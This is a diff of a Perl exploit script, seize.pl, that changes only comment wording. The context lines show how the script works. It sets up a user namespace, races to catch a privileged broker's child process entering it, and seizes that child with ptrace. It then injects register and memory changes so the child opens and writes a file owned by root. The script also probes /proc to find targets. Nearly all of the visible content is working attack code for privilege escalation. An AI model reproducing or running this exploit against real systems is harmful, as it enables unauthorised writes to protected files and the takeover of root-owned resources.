@@ -1,5 +1,5 @@
-# Root of a user namespace that root made hunts for the child by which the broker enters it, and makes
-# it open and write a file of root's: seize.pl SOCKET OWNER REQUEST SECONDS FILE
+# Root of a user namespace that root created searches for the broker's child that enters it, and makes the
+# child open and write root's file: seize.pl SOCKET OWNER REQUEST SECONDS FILE
 use strict;
 use warnings;
 use Attack;
@@ -8,7 +8,7 @@ use constant { SEIZE => 0x4206, INTERRUPT => 0x4207, PEEKTEXT => 1, POKEDATA => 
   GETREGS => 12, SETREGS => 13, DETACH => 17, WALL => 0x40000000 };
 
 my ($socket, $owner, $request, $seconds, $file) = @ARGV;
-# Uids that no other process has.
+# Uids without other processes.
 mapped_namespace(1_000_000 + $$ % 1000 * 65536, 65536, NEWNS | NEWNET, $owner + 0);
 my $end = now() + $seconds;
 
@@ -37,12 +37,12 @@ hunt: while (now() < $end) {
     if ($result == 0) {
       $first = now() - $started if $seized++ == 0;
       my $used = use_child($pid);
-      # Else the broker would wait for a child that is stopped.
+      # Otherwise the broker would wait for a stopped child.
       sys('ptrace', DETACH, $pid, 0, 9);
       kill 'KILL', $pid if !$used && mine($pid);
       if ($used) { say_value('took', sprintf '%.2f', now() - $started); last hunt }
     }
-    # What it has open, and its memory, by other doors that ask the same question.
+    # Its descriptor list in /proc has the same ptrace access check.
     elsif (opendir my $folder, "/proc/$pid/fd") { $looked++ if -e "/proc/$pid/ns/user" && mine($pid) }
   }
 }
@@ -61,13 +61,13 @@ if (sysread $reader, $counts, 8) {
   say_value('granted', $granted);
 }
 
-# Whether a process is in this namespace: only then is it the broker's child.
+# Returns whether a process is in this user namespace, as the broker's child is.
 sub mine {
   my ($pid) = @_;
   return (readlink("/proc/$pid/ns/user") // '') eq readlink('/proc/self/ns/user');
 }
 
-# Makes the child call openat and write, as whoever it is: whether it wrote.
+# Makes the child call openat and write with its credentials; returns whether it wrote.
 sub use_child {
   my ($pid) = @_;
   sys('ptrace', INTERRUPT, $pid, 0, 0);
